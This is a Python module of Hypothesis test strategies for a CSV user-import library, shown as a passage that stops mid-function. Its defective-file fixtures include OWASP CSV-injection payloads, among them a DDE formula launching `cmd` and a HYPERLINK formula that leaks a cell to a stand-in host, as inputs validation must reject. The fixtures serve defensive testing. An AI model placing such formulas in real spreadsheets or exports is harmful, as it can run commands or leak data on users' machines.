"""Hypothesis strategies for the tests of applications that use userimport (SPEC §8).

Install the ``testing`` extra (``pip install userimport[testing]``); this module is
never imported by ``userimport`` itself.

- :func:`user_rows`: valid, normalised :class:`~userimport.schema.UserRow` values,
  whose fields pass validation unchanged (Unicode names, internationalised email
  addresses, groups, languages).
- :func:`emails`: normalised addresses email-validator accepts, internationalised
  ones included (``st.emails()`` draws ASCII addresses only).
- :func:`org_trees`: valid :class:`~userimport.hierarchy.OrgTree` values.
- :func:`csv_files`: whole valid uploads, ``(data, orgs, actor)``: ``prepare`` on
  ``data`` with ``orgs``, ``actor`` and an empty ``MemoryStore`` finds no error
  (SPEC §10). :func:`valid_uploads` draws the same files with the users they hold.
- :func:`defective_csv_files`: ``(data, codes)``: files with known defects and the
  exact set of issue codes ``prepare`` reports for them against :data:`SAMPLE_ORGS`,
  :data:`SAMPLE_MANAGER` and an empty ``MemoryStore``, with the default options.

With the package installed, hypothesis registers :func:`user_rows` and
:func:`org_trees` for ``st.from_type(UserRow)`` and ``st.from_type(OrgTree)``
(the ``hypothesis`` entry point calls :func:`_hypothesis_setup_hook`).

Example::

    from hypothesis import given
    from userimport.flow import prepare
    from userimport.stores.memory import MemoryStore
    from userimport.strategies import csv_files

    @given(csv_files())
    def test_my_import_endpoint_accepts_valid_files(file):
        data, orgs, actor = file
        preview = prepare(data, actor=actor, orgs=orgs, store=MemoryStore())
        assert preview.ok
"""

from __future__ import annotations

import codecs
import csv
import io
import string
import unicodedata
from collections.abc import Callable, Sequence
from typing import Final

import attrs
from hypothesis import strategies as st

from userimport._pytest_plugin import sample_admin, sample_manager, sample_orgs
from userimport.access import Actor
from userimport.hierarchy import Organization, OrgTree
from userimport.issues import IssueCode
from userimport.formulas import unprotect_cell
from userimport.schema import (
    COLUMNS,
    EXAMPLE_ROWS,
    HEADER_ALIASES,
    OPTIONAL_COLUMNS,
    REQUIRED_COLUMNS,
    Role,
    UserRow,
    email_key,
)
from userimport.validation import (
    LANGUAGE_CODES,
    MAX_NAME_LENGTH,
    REGION_CODES,
    ROLE_ALIASES,
    normalize_email,
)

__all__ = [
    "ENCODINGS",
    "SAMPLE_ADMIN",
    "SAMPLE_MANAGER",
    "SAMPLE_ORGS",
    "ValidUpload",
    "csv_files",
    "defective_csv_files",
    "emails",
    "org_trees",
    "user_rows",
    "valid_uploads",
]

#: The sample tree of the pytest plugin (see ``userimport_orgs``): four levels,
#: "Sales" three times. :func:`defective_csv_files` is judged against it.
SAMPLE_ORGS: Final = sample_orgs()
#: An administrator of the root of :data:`SAMPLE_ORGS`.
SAMPLE_ADMIN: Final = sample_admin()
#: A manager of Spain (``"es"``) in :data:`SAMPLE_ORGS`: the actor
#: :func:`defective_csv_files` is judged for.
SAMPLE_MANAGER: Final = sample_manager()

#: How :func:`csv_files` may encode a file: UTF-8 with and without a byte-order
#: mark, UTF-16 and UTF-32 with a byte-order mark in either byte order, UTF-16
#: without one when its NUL bytes show it (mostly ASCII text), and cp1252 when
#: the text fits.
ENCODINGS: Final[tuple[str, ...]] = (
    "utf-8",
    "utf-8-sig",
    "utf-16-le-bom",
    "utf-16-be-bom",
    "utf-32-le-bom",
    "utf-32-be-bom",
    "utf-16-le",
    "utf-16-be",
    "cp1252",
)

_BOMS: Final = {
    "utf-8-sig": (b"", "utf-8-sig"),
    "utf-16-le-bom": (codecs.BOM_UTF16_LE, "utf-16-le"),
    "utf-16-be-bom": (codecs.BOM_UTF16_BE, "utf-16-be"),
    "utf-32-le-bom": (codecs.BOM_UTF32_LE, "utf-32-le"),
    "utf-32-be-bom": (codecs.BOM_UTF32_BE, "utf-32-be"),
}

# --- names, emails, the other fields --------------------------------------------

# Real names exercise what random letters rarely draw: apostrophes, hyphens, dots,
# particles, several scripts.
_REAL_NAMES: Final = (
    "Ana",
    "José",
    "María José",
    "Zoë",
    "Łukasz",
    "Nguyễn Văn",
    "O'Brien",
    "Jean-Luc",
    "Müller",
    "Ørsted",
    "van der Berg",
    "D'Angelo",
    "St. John",
    "山田",
    "Александр",
    "Σοφία",
    "محمد",
    "Li",
)
_LETTERS: Final = st.characters(categories=("Lu", "Ll", "Lt", "Lm", "Lo"))


def _nfc(text: str) -> str:
    return unicodedata.normalize("NFC", text)


def _fits_cp1252(text: str) -> bool:
    try:
        text.encode("cp1252")
    except UnicodeEncodeError:
        return False
    return True


def _join_words(words: Sequence[str]) -> str:
    return _nfc(" ".join(words))


def _short_enough(name: str) -> bool:
    return len(name) <= MAX_NAME_LENGTH


#: Names as validation leaves them: letters, single spaces, NFC, 1..100 long.
_NAMES: Final = st.one_of(
    st.sampled_from(_REAL_NAMES),
    st.lists(st.text(_LETTERS, min_size=1, max_size=12), min_size=1, max_size=3).map(
        _join_words
    ),
).filter(_short_enough)
# Western European names, which cp1252 (what Excel writes in those locales) can
# encode: what a legacy-encoded upload holds.
_WESTERN_LETTERS: Final = (
    string.ascii_letters + "áéíóúñüçàèìòùâêîôûäëïöÿßøåæœÁÉÍÓÚÑÜÇÖØÅ"
)
_WESTERN_NAMES: Final = st.one_of(
    st.sampled_from([name for name in _REAL_NAMES if _fits_cp1252(name)]),
    st.lists(
        st.text(st.sampled_from(_WESTERN_LETTERS), min_size=1, max_size=12),
        min_size=1,
        max_size=3,
    ).map(" ".join),
)


def _no_group_separator(name: str) -> bool:
    """Whether ``name`` can be a group name: no ``;``, ``,`` or ``|`` in it."""
    return not any(separator in name for separator in ";,|")


# RFC 5322 §3.2.3 atext; a local part made of it needs no quoting.
_ATEXT: Final = string.ascii_letters + string.digits + "!#$%&'*+-/=?^_`{|}~"
_ASCII_ATOMS: Final = st.text(st.sampled_from(_ATEXT), min_size=1, max_size=8)
# Letters of several scripts for internationalised local parts (RFC 6531) and
# domain labels (IDNA 2008); left-to-right scripts only, as the IDNA bidi rule
# restricts labels that mix directions.
_IDN_LETTERS: Final = (
    "abcdefghijklmnopqrstuvwxyz0123456789äöüéèñçåøæœß"
    "абвгдежзиклмнопрстуфхцчшэюяαβγδεζηθλμπσ日本語中文例え"
)
_UNICODE_ATOMS: Final = st.text(
    st.one_of(st.sampled_from(_IDN_LETTERS), _LETTERS), min_size=1, max_size=8
)
_ALNUM: Final = st.sampled_from(string.ascii_lowercase + string.digits)
_ASCII_LABELS: Final = st.builds(
    lambda head, tail: f"{head}-{tail}" if tail else head,
    st.text(_ALNUM, min_size=1, max_size=8),
    st.text(_ALNUM, max_size=4),
)
_IDN_LABELS: Final = st.text(st.sampled_from(_IDN_LETTERS), min_size=1, max_size=8)
_TLDS: Final = st.sampled_from(
    ("com", "org", "net", "es", "de", "mx", "example", "io", "рф", "中国")
)


def _normalised_email(address: str) -> str:
    """The address as validation leaves it, or ``""`` when it is not valid.

    Only addresses whose normal form is its own normal form are kept, so a drawn
    address reads back unchanged.
    """
    result = normalize_email(address)
    if isinstance(result, str):
        return ""
    return result[0] if normalize_email(result[0]) == result else ""


def emails() -> st.SearchStrategy[str]:
    """Valid email addresses in the form validation normalises them to.

    ASCII and internationalised local parts (RFC 6531) at ASCII and IDN domains;
    the domain is in its normalised Unicode form and the local part keeps its case,
    as :func:`userimport.validation.normalize_email` returns them. No local part
    starts with an apostrophe, so no address looks like a cell the library marked
    against formula injection (``'=...``). Addresses starting with ``=``, ``+`` or
    ``-`` (valid characters) do occur.

    Example::

        @given(emails())
        def test_signup_accepts(address): ...
    """
    return _EMAILS


def _no_marker(text: str) -> bool:
    return not text.startswith("'")


_LOCAL_PARTS: Final = (
    st.lists(st.one_of(_ASCII_ATOMS, _UNICODE_ATOMS), min_size=1, max_size=3)
    .map(".".join)
    .filter(_no_marker)
)
_DOMAINS: Final = st.builds(
    lambda labels, tld: ".".join([*labels, tld]),
    st.lists(st.one_of(_ASCII_LABELS, _IDN_LABELS), min_size=1, max_size=2),
    _TLDS,
)
_EMAILS: Final = (
    st.builds(lambda local, domain: f"{local}@{domain}", _LOCAL_PARTS, _DOMAINS)
    .map(_normalised_email)
    .filter(bool)
)
#: ASCII addresses, for files in a legacy encoding.
_ASCII_EMAILS: Final = (
    st.builds(
        lambda atoms, labels, tld: f"{'.'.join(atoms)}@{'.'.join([*labels, tld])}",
        st.lists(_ASCII_ATOMS, min_size=1, max_size=3),
        st.lists(_ASCII_LABELS, min_size=1, max_size=2),
        st.sampled_from(("com", "org", "es", "de", "example")),
    )
    .filter(_no_marker)
    .map(_normalised_email)
    .filter(bool)
)


def _languages() -> st.SearchStrategy[str]:
    """``xx`` or ``xx-YY`` / ``xx-NNN`` as validation normalises them."""
    language = st.sampled_from(sorted(LANGUAGE_CODES))
    region = st.one_of(st.none(), st.sampled_from(sorted(REGION_CODES)))
    return st.builds(
        lambda lang, reg: lang if reg is None else f"{lang}-{reg}", language, region
    )


#: Organization ids: slugs such as ``"es-mad"``.
_ORG_IDS: Final = st.builds(
    lambda head, tail: f"{head}-{tail}" if tail else head,
    st.text(st.sampled_from(string.ascii_lowercase), min_size=1, max_size=6),
    st.text(_ALNUM, max_size=5),
)
_LANGUAGES: Final = _languages()


def user_rows(
    orgs: OrgTree | None = None,
    *,
    within: str | None = None,
    max_role: Role | str = Role.ADMIN,
) -> st.SearchStrategy[UserRow]:
    """Valid, normalised users: every field is what validation makes of itself.

    Names are Unicode letters (several scripts, apostrophes, hyphens) in NFC with
    single spaces, emails come from :func:`emails`, groups are up to three distinct
    names, languages ``xx`` or ``xx-YY``. Writing a drawn user's fields into an
    upload and validating them gives the same values back.

    Args:
        orgs: Draw ``organization`` among this tree's ids; without a tree, slugs
            such as ``"es-mad"`` are drawn.
        within: Only organizations of this organization's subtree (needs ``orgs``).
        max_role: Only roles up to this one (what an actor of that role may
            assign).

    Raises:
        ValueError: ``within`` without ``orgs``, or not in ``orgs``.

    Example::

        @given(user_rows(SAMPLE_ORGS, within="es", max_role="manager"))
        def test_spain_manager_may_import(user): ...
    """
    if orgs is None:
        if within is not None:
            raise ValueError("within needs orgs: the tree the organization is in.")
        organizations: st.SearchStrategy[str] = _ORG_IDS
    else:
        ids = sorted(
            orgs.subtree_ids(within) if within is not None else (o.id for o in orgs)
        )
        if not ids:
            raise ValueError(f"The organization {within!r} is not in the tree.")
        organizations = st.sampled_from(ids)
    return _users(organizations, Role(max_role), _NAMES, _EMAILS)


def _users(
    organizations: st.SearchStrategy[str],
    max_role: Role,
    names: st.SearchStrategy[str],
    addresses: st.SearchStrategy[str],
) -> st.SearchStrategy[UserRow]:
    group_names = names.filter(_no_group_separator)
    return st.builds(
        UserRow,
        first_name=names,
        last_name=names,
        email=addresses,
        organization=organizations,
        role=st.sampled_from([role for role in Role if role.rank <= max_role.rank]),
        groups=st.lists(group_names, max_size=3, unique=True).map(tuple),
        language=st.one_of(st.none(), _LANGUAGES),
    )


# --- organization trees ---------------------------------------------------------

# Names repeat in real trees ("Sales" in every city), and some hold a slash.
_COMMON_ORG_NAMES: Final = (
    "Acme",
    "Spain",
    "Madrid",
    "Sales",
    "Support",
    "HQ",
    "R/D",
    "Ciudad de México",
    "Zürich",
    "東京",
)
_ORG_NAMES: Final = st.one_of(st.sampled_from(_COMMON_ORG_NAMES), _NAMES)
_WESTERN_ORG_NAMES: Final = st.one_of(
    st.sampled_from([name for name in _COMMON_ORG_NAMES if _fits_cp1252(name)]),
    _WESTERN_NAMES,
)


@st.composite
def _trees(
    draw: st.DrawFn, max_size: int, names: st.SearchStrategy[str] = _ORG_NAMES
) -> OrgTree:
    size = draw(st.integers(1, max_size))
    ids = draw(st.lists(_ORG_IDS, min_size=size, max_size=size, unique=True))
    orgs = [Organization(ids[0], draw(names))]
    for index in range(1, size):
        # A parent drawn among the organizations before it: never a cycle; -1 is a
        # further root.
        parent = draw(st.integers(-1, index - 1))
        orgs.append(
            Organization(
                ids[index], draw(_ORG_NAMES), ids[parent] if parent >= 0 else None
            )
        )
    return OrgTree(draw(st.permutations(orgs)))


def org_trees(*, max_size: int = 12) -> st.SearchStrategy[OrgTree]:
    """Valid organization trees of 1 to ``max_size`` organizations.

    Ids are unique slugs; names repeat as they do in real trees (several "Sales"),
    and some contain a ``/`` (``"R/D"``). A tree may have several roots; the
    organizations are given to :class:`OrgTree` in a random order.

    Example::

        @given(org_trees())
        def test_every_org_is_within_its_root(tree): ...
    """
    if max_size < 1:
        raise ValueError(f"max_size must be at least 1, not {max_size}")
    return _trees(max_size)


# --- writing files --------------------------------------------------------------

_UNKNOWN_HEADERS: Final = ("Notes", "Department", "Employee number", "Comentarios")
_DELIMITERS: Final = (",", ";", "\t", "|")
_LINE_ENDS: Final = ("\r\n", "\n", "\r")
_GROUP_SEPARATORS: Final = ("; ", ";", ",", " | ", "|")
_CASES: Final[tuple[Callable[[str], str], ...]] = (str, str.upper, str.lower, str.title)


@st.composite
def _header(draw: st.DrawFn, column: str) -> str:
    """A spelling of a column's header: an alias, in some case."""
    alias = draw(st.sampled_from(HEADER_ALIASES[column]))
    return draw(st.sampled_from(_CASES))(alias)


@attrs.frozen
class _Layout:
    """How a file is written: its dialect and the blank records it carries."""

    delimiter: str
    line_end: str
    quoting: int
    sep_line: bool
    blank_before: int


@st.composite
def _layouts(draw: st.DrawFn) -> _Layout:
    return _Layout(
        delimiter=draw(st.sampled_from(_DELIMITERS)),
        line_end=draw(st.sampled_from(_LINE_ENDS)),
        quoting=draw(st.sampled_from((csv.QUOTE_MINIMAL, csv.QUOTE_ALL))),
        sep_line=draw(st.booleans()),
        blank_before=draw(st.integers(0, 2)),
    )


def _write(layout: _Layout, records: Sequence[Sequence[str]]) -> str:
    """The text of a CSV file: an Excel ``sep=`` line, blank records, the records."""
    buffer = io.StringIO()
    if layout.sep_line:
        buffer.write(f"sep={layout.delimiter}{layout.line_end}")
    writer = csv.writer(
        buffer,
        delimiter=layout.delimiter,
        lineterminator=layout.line_end,
        quoting=layout.quoting,  # type: ignore[arg-type]  # typeshed wants a Literal
    )
    for _ in range(layout.blank_before):
        writer.writerow([])
    writer.writerows(records)
    return buffer.getvalue()


def _fits_bomless_utf16(text: str) -> bool:
    """Whether BOM-less UTF-16 of ``text`` shows by its NUL bytes (SPEC §3.3).

    ASCII and Latin-1 characters leave a NUL in the high byte of their code unit;
    the reader recognises BOM-less UTF-16 when enough code units do and no unit has
    a NUL low byte (U+0100, U+4E00, ...). Half the text being such characters is
    comfortably enough.
    """
    units = text.encode("utf-16-le")[:8192]
    low, high = units[0::2], units[1::2]
    return 0 not in low and high.count(0) * 2 >= len(high)


def _encode(text: str, encoding: str) -> bytes:
    if encoding in _BOMS:
        bom, codec = _BOMS[encoding]
        return bom + text.encode(codec)
    return text.encode(encoding)


def _encodings(
    text: str, delimiter: str, *, ascii_references: bool
) -> st.SearchStrategy[str]:
    """The encodings of :data:`ENCODINGS` that can carry ``text`` readably.

    cp1252 needs a text it can encode, another delimiter than ``|``, and
    organization references in ASCII (``ascii_references``): its encoding is
    guessed when read, a guessed multi-byte encoding (Big5, GB18030, Shift JIS)
    would take a ``|`` after an accented letter for the second byte of a
    character, and a guessed code page (cp1250 for a lone ``Ã``) would misread an
    accented organization name, which then names no organization. It comes first
    when it fits, so that it is drawn often.
    """
    legacy = delimiter != "|" and ascii_references and _fits_cp1252(text)
    fitting = [
        name
        for name in sorted(ENCODINGS, key=lambda name: name != "cp1252")
        if (name != "cp1252" or legacy)
        and (name not in ("utf-16-le", "utf-16-be") or _fits_bomless_utf16(text))
    ]
    return st.sampled_from(fitting)


# --- valid files ----------------------------------------------------------------


@attrs.frozen
class ValidUpload:
    """A valid upload drawn by :func:`valid_uploads`, with what it holds.

    Attributes:
        data: The file's bytes.
        orgs: The tree it is valid for.
        actor: The actor it is valid for.
        users: The users ``prepare`` finds, in file order, against an empty store
            with the default options. A cp1252 file's encoding is guessed when
            read; a guess of another code page reads some accented letters
            differently (``Ñ`` as ``Ń``), so compare ``users`` only when
            ``preview.encoding`` is ``"cp1252"`` for such a file.
        encoding: How ``data`` was encoded (one of :data:`ENCODINGS`).
        delimiter: Its delimiter.
    """

    data: bytes
    orgs: OrgTree
    actor: Actor
    users: tuple[UserRow, ...]
    encoding: str
    delimiter: str


_EXAMPLE_KEYS: Final = frozenset(email_key(row["email"]) for row in EXAMPLE_ROWS)


def _not_example(user: UserRow) -> bool:
    return user.key not in _EXAMPLE_KEYS


def _needed(column: str, user: UserRow, actor: Actor) -> bool:
    """Whether ``user`` needs a non-empty cell in an optional ``column``."""
    if column == "organization":
        return user.organization != actor.org_id
    if column == "role":
        return user.role is not Role.LEARNER
    if column == "groups":
        return bool(user.groups)
    return user.language is not None


@st.composite
def _padded(draw: st.DrawFn, text: str) -> str:
    """``text`` with maybe some surrounding spaces, which validation trims."""
    return (
        draw(st.sampled_from(("", " ", "  "))) + text + draw(st.sampled_from(("", " ")))
    )


@st.composite
def _organization_cell(
    draw: st.DrawFn, user: UserRow, orgs: OrgTree, actor: Actor
) -> str:
    """A reference that resolves to the user's organization from the actor's.

    An id, a name in some case or a path (from the root or from the actor's
    organization), kept only when the tree resolves it to exactly that
    organization; the actor's own organization may also be an empty cell.
    """
    org_id = user.organization
    target = orgs.get(org_id)
    assert target is not None  # the user's organization was drawn from the tree
    name = target.name
    refs = [
        org_id,
        name,
        name.upper(),
        orgs.path_text(org_id),
        orgs.path_text(org_id, within=actor.org_id),
    ]
    usable = [
        ref
        for ref in refs
        if ref
        and unprotect_cell(ref) == ref
        and orgs.candidates(ref, within=actor.org_id) == (target,)
    ]
    if org_id == actor.org_id:
        usable.append("")
    return draw(st.sampled_from(usable))


@st.composite
def _role_cell(draw: st.DrawFn, role: Role) -> str:
    spellings = [alias for alias, value in ROLE_ALIASES.items() if value is role]
    if role is Role.LEARNER:
        spellings.append("")  # the default role (ImportOptions.default_role)
    return draw(st.sampled_from(_CASES))(draw(st.sampled_from(spellings)))


def _language_cell(language: str | None) -> st.SearchStrategy[str]:
    if language is None:
        return st.just("")
    return st.sampled_from(
        (language, language.lower(), language.upper(), language.replace("-", "_"))
    )


@st.composite
def _user_cells(
    draw: st.DrawFn, user: UserRow, orgs: OrgTree, actor: Actor
) -> dict[str, str]:
    """One way of writing ``user`` in an upload, by canonical column."""
    separator = draw(st.sampled_from(_GROUP_SEPARATORS))
    return {
        "first_name": draw(_padded(user.first_name)),
        "last_name": draw(_padded(user.last_name)),
        "email": draw(_padded(user.email)),
        "organization": draw(_organization_cell(user, orgs, actor)),
        "role": draw(_role_cell(user.role)),
        "groups": separator.join(user.groups),
        "language": draw(_language_cell(user.language)),
    }


@st.composite
def _valid_uploads(draw: st.DrawFn, max_users: int) -> ValidUpload:
    # Half the files hold Western European names and ASCII addresses, which a
    # legacy encoding (cp1252) can carry.
    western = draw(st.booleans())
    orgs = draw(_trees(12, _WESTERN_ORG_NAMES if western else _ORG_NAMES))
    actor = Actor(
        draw(st.sampled_from([org.id for org in orgs])),
        draw(st.sampled_from(list(Role))),
    )
    users = draw(
        st.lists(
            user_rows(orgs, within=actor.org_id, max_role=actor.role).filter(
                _not_example
            ),
            min_size=1,
            max_size=max_users,
            unique_by=lambda user: user.key,
        )
    )
    needed = {c for c in OPTIONAL_COLUMNS if any(_needed(c, u, actor) for u in users)}
    extra = draw(st.sets(st.sampled_from(OPTIONAL_COLUMNS)))
    columns = draw(
        st.permutations(
            [c for c in COLUMNS if c in REQUIRED_COLUMNS or c in needed | extra]
        )
    )
    headers = [draw(_header(column)) for column in columns]
    unknown = draw(st.lists(st.sampled_from(_UNKNOWN_HEADERS), max_size=1))
    trailing = draw(st.integers(0, 2))  # the empty cells Excel leaves at the end
    records: list[list[str]] = [[*headers, *unknown, *([""] * trailing)]]
    width = len(records[0])
    ascii_references = True
    for user in users:
        for _ in range(draw(st.integers(0, 1))):
            records.append(draw(st.sampled_from(([], [""] * width))))
        cells = draw(_user_cells(user, orgs, actor))
        ascii_references &= "organization" not in columns or (
            cells["organization"].isascii()
        )
        notes = [draw(st.sampled_from(("", "see HR", "Notas: ñ")))] if unknown else []
        records.append([*(cells[c] for c in columns), *notes, *([""] * trailing)])
    layout = draw(_layouts())
    text = _write(layout, records)
    encoding = draw(
        _encodings(text, layout.delimiter, ascii_references=ascii_references)
    )
    return ValidUpload(
        data=_encode(text, encoding),
        orgs=orgs,
        actor=actor,
        users=tuple(users),
        encoding=encoding,
        delimiter=layout.delimiter,
    )


def valid_uploads(*, max_users: int = 8) -> st.SearchStrategy[ValidUpload]:
    """Whole valid uploads with the tree, actor and users they are valid for.

    What :func:`csv_files` draws, with more detail: ``prepare`` on ``data`` with
    ``orgs``, ``actor``, an empty ``MemoryStore`` and the default options finds no
    error, and its rows' users are ``users``, in order (see
    :attr:`ValidUpload.users` for cp1252 files). Files vary in everything the
    reader accepts: encoding (:data:`ENCODINGS`), delimiter (``,``, ``;``, tab,
    ``|``), line ends (CRLF, LF, CR), quoting, an Excel ``sep=`` line, blank records
    before and between rows, header aliases and their case, column order, optional
    columns left out when empty, an unknown extra column (a warning), trailing empty
    cells, padding spaces around values, and every way of writing organizations,
    roles, groups and languages.

    A cp1252 file with accented letters is read with a guessed encoding, which
    adds the warning ``encoding_guessed``; an unknown column adds
    ``unknown_columns``. Neither is an error.

    Example::

        @given(valid_uploads())
        def test_endpoint_creates_the_users(upload):
            created = my_import_endpoint(upload.data, upload.orgs, upload.actor)
            assert [u.email for u in upload.users] == [u.email for u in created]

    Args:
        max_users: The most users in a file (at least one is drawn).
    """
    if max_users < 1:
        raise ValueError(f"max_users must be at least 1, not {max_users}")
    return _valid_uploads(max_users)


def csv_files(*, max_users: int = 8) -> st.SearchStrategy[tuple[bytes, OrgTree, Actor]]:
    """Whole valid uploads, ``(data, orgs, actor)`` (SPEC §9, §10).

    ``prepare(data, actor=actor, orgs=orgs, store=MemoryStore())`` finds no error.
    See :func:`valid_uploads` for what varies, and for the users each file holds.

    Example::

        @given(csv_files())
        def test_upload_endpoint(file):
            data, orgs, actor = file
            ...
    """
    return valid_uploads(max_users=max_users).map(
        lambda upload: (upload.data, upload.orgs, upload.actor)
    )


# --- defective files ------------------------------------------------------------

# Payloads of OWASP "CSV Injection": formulas, Dynamic Data Exchange, full-width
# forms, and a formula behind spaces. Validation rejects each as a name
# (invalid_characters); the error report must write each back harmlessly.
_FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
)

#: Row defects by the code they produce: the column and the bad cell. Each leaves
#: the rest of its row valid, so the row gets that code and no other.
_ROW_DEFECTS: Final[dict[IssueCode, tuple[tuple[str, str], ...]]] = {
    IssueCode.MISSING_VALUE: (
        ("first_name", ""),
        ("last_name", "   "),
        ("email", ""),
    ),
    IssueCode.VALUE_TOO_LONG: (
        ("first_name", "A" * 101),
        ("last_name", "Garcia " * 20),
        ("groups", "Sales; " + "G" * 101),
    ),
    IssueCode.INVALID_CHARACTERS: (
        *(("first_name", formula) for formula in _FORMULAS),
        ("last_name", "Garc\u200bía"),
        ("last_name", "Garc\u202eía"),
        ("first_name", "Ana\nMaría"),
        ("first_name", "Ana\tMaría"),
        ("groups", 'Sales; =HYPERLINK("http://example.com")'),
        ("organization", "Madrid\u200b"),
    ),
    IssueCode.INVALID_EMAIL: (
        ("email", "not-an-email"),
        ("email", "ana@"),
        ("email", "ana@@example.com"),
        ("email", "ana@example"),
        ("email", "ana garcia@example.com"),
        ("email", "ana..garcia@example.com"),
        ("email", "ana@example.test"),
    ),
    IssueCode.UNKNOWN_ORGANIZATION: (
        ("organization", "Atlantis"),
        ("organization", "Mexico"),  # it exists, outside the manager's subtree
        ("organization", "mx-cdmx"),
        ("organization", "Acme / Mexico"),
        ("organization", "Sales / Madrid"),
    ),
    IssueCode.AMBIGUOUS_ORGANIZATION: (
        ("organization", "Sales"),
        ("organization", " SALES "),
    ),
    IssueCode.INVALID_ROLE: (
        ("role", "wizard"),
        ("role", "superuser"),
        ("role", "learner; admin"),
    ),
    IssueCode.ROLE_NOT_ALLOWED: (
        ("role", "admin"),
        ("role", "Administrador"),
    ),
    IssueCode.INVALID_LANGUAGE: (
        ("language", "klingon"),
        ("language", "xx"),
        ("language", "en-ZZ"),
        ("language", "english"),
    ),
}

_SAMPLE_SCOPE: Final = sorted(SAMPLE_ORGS.subtree_ids(SAMPLE_MANAGER.org_id))


def _canonical_cells(user: UserRow) -> dict[str, str]:
    """The plain spelling of a valid user's cells."""
    return {
        "first_name": user.first_name,
        "last_name": user.last_name,
        "email": user.email,
        "organization": user.organization,
        "role": user.role.value,
        "groups": "; ".join(user.groups),
        "language": user.language or "",
    }


def _file_encodings(text: str, delimiter: str) -> st.SearchStrategy[str]:
    """The Unicode encodings of :data:`ENCODINGS` that carry ``text`` (no guess)."""
    return _encodings(text, delimiter, ascii_references=True).filter(
        lambda name: name != "cp1252"
    )


def _defect_codes(draw: st.DrawFn) -> list[IssueCode]:
    special = (
        IssueCode.DUPLICATE_EMAIL,
        IssueCode.EXAMPLE_ROW,
        IssueCode.WRONG_FIELD_COUNT,
    )
    return draw(
        st.lists(st.sampled_from([*_ROW_DEFECTS, *special]), min_size=1, max_size=5)
    )


@st.composite
def _row_defect_files(draw: st.DrawFn) -> tuple[bytes, frozenset[IssueCode]]:
    """A readable file whose rows carry defects, each producing one known code."""
    codes = _defect_codes(draw)
    western = draw(st.booleans())
    valid = draw(st.integers(1 if IssueCode.DUPLICATE_EMAIL in codes else 0, 3))
    users = draw(
        st.lists(
            _users(
                st.sampled_from(_SAMPLE_SCOPE),
                SAMPLE_MANAGER.role,
                _WESTERN_NAMES if western else _NAMES,
                _ASCII_EMAILS if western else _EMAILS,
            ).filter(_not_example),
            min_size=valid + len(codes),
            max_size=valid + len(codes),
            unique_by=lambda user: user.key,
        )
    )
    columns = draw(st.permutations(COLUMNS))
    headers = [draw(_header(column)) for column in columns]
    unknown = draw(st.lists(st.sampled_from(_UNKNOWN_HEADERS), max_size=1))
    width = len(columns) + len(unknown)

    def record(cells: dict[str, str]) -> list[str]:
        return [*(cells[c] for c in columns), *("" for _ in unknown)]

    sources = [_canonical_cells(user) for user in users[:valid]]
    rows = [record(cells) for cells in sources]
    later: list[list[str]] = []
    for code, user in zip(codes, users[valid:], strict=True):
        cells = _canonical_cells(user)
        if code is IssueCode.EXAMPLE_ROW:
            cells = dict(draw(st.sampled_from(EXAMPLE_ROWS)))
        elif code is IssueCode.WRONG_FIELD_COUNT:
            extra = draw(st.sampled_from((["extra"], ["", "x"], ["a", "b"])))
            rows.append([*record(cells), *extra])
            continue
        elif code is IssueCode.DUPLICATE_EMAIL:
            # The same address as an earlier valid row, maybe in other case: the
            # key is case-folded (SPEC §2), and only the later row is at fault.
            cells = dict(draw(st.sampled_from(sources)))
            address = cells["email"]
            if address.isascii():
                cells["email"] = draw(st.sampled_from((address, address.upper())))
            later.append(record(cells))
            continue
        else:
            column, value = draw(st.sampled_from(_ROW_DEFECTS[code]))
            cells[column] = value
        rows.append(record(cells))
    rows = [*draw(st.permutations(rows)), *later]
    records: list[list[str]] = [[*headers, *unknown]]
    for row in rows:
        if draw(st.integers(0, 4)) == 0:
            records.append(draw(st.sampled_from(([], [""] * width))))
        records.append(row)
    layout = draw(_layouts())
    text = _write(layout, records)
    # Valid rows name their organization by id (ASCII); a defective one stays
    # unknown however it is read.
    encoding = draw(_encodings(text, layout.delimiter, ascii_references=True))
    expected = set(codes)
    if unknown:
        expected.add(IssueCode.UNKNOWN_COLUMNS)
    if encoding == "cp1252" and not text.isascii():
        expected.add(IssueCode.ENCODING_GUESSED)
    return _encode(text, encoding), frozenset(expected)


_EMPTY_FILES: Final = (
    b"",
    b"\r\n",
    b"\n\n\n",
    b"   \r\n",
    b",,,\r\n;;\r\n",
    codecs.BOM_UTF8,
)

# Signatures of files that are not CSV text (SPEC §3.2), each followed by any bytes.
_BINARY_HEADS: Final = (
    b"PK\x03\x04\x14\x00\x06\x00xl/workbook.xml",  # Excel XLSX
    b"PK\x03\x04\x14\x00\x00\x00mimetypeapplication/vnd.oasis.opendocument.spreadsheet",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",  # Excel 97-2003 (OLE)
    b"%PDF-1.7\n",
    b"\x89PNG\r\n\x1a\n",
    b"\x1f\x8b\x08\x00",  # gzip
)

_HEADER_LINE: Final = "first_name,last_name,email\r\n"
_UNDECODABLE_FILES: Final = (
    # A UTF-8 byte-order mark, then cp1252 text.
    codecs.BOM_UTF8
    + (_HEADER_LINE + "José,García,jose@example.com\r\n").encode("cp1252"),
    # UTF-16 cut in the middle of a code unit.
    codecs.BOM_UTF16_LE + _HEADER_LINE.encode("utf-16-le") + b"A",
    # UTF-16 with a lone surrogate.
    codecs.BOM_UTF16_LE + _HEADER_LINE.encode("utf-16-le") + b"\x00\xd8A\x00",
    # UTF-32 with a surrogate code point.
    codecs.BOM_UTF32_BE + _HEADER_LINE.encode("utf-32-be") + b"\x00\x00\xd8\x00",
)


@st.composite
def _simple_rows(
    draw: st.DrawFn, columns: Sequence[str], count: int
) -> list[list[str]]:
    """``count`` valid-looking records for ``columns`` (never validated: the file
    has a file-level error)."""
    users = draw(
        st.lists(
            _users(st.sampled_from(_SAMPLE_SCOPE), Role.LEARNER, _NAMES, _EMAILS),
            min_size=count,
            max_size=count,
        )
    )
    return [[_canonical_cells(user).get(c, "x") for c in columns] for user in users]


@st.composite
def _header_defect_files(draw: st.DrawFn) -> tuple[bytes, frozenset[IssueCode]]:
    """A file whose header, rows or structure is wrong as a whole."""
    kind = draw(
        st.sampled_from(
            (
                IssueCode.MISSING_COLUMNS,
